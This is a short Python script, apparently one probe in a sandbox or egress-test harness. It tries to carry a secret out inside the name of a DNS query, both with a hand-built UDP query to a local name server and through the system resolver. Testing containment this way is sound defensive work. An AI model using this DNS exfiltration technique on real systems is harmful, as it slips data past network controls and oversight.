"""Carry a secret out in the name of a DNS query: to a name server on the host, and by the C library's resolver."""

import socket
import struct

from attack import PARAMETERS, attempt

name = PARAMETERS["name"]
labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
query = struct.pack("!6H", 1, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", 1, 1)


def ask():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(0.5)
        client.sendto(query, ("127.0.0.1", PARAMETERS["port"]))
        return client.recv(512)


attempt("a query of our own", ask)
if PARAMETERS["resolver"]:
    attempt("the resolver", lambda: socket.getaddrinfo(name, 80))
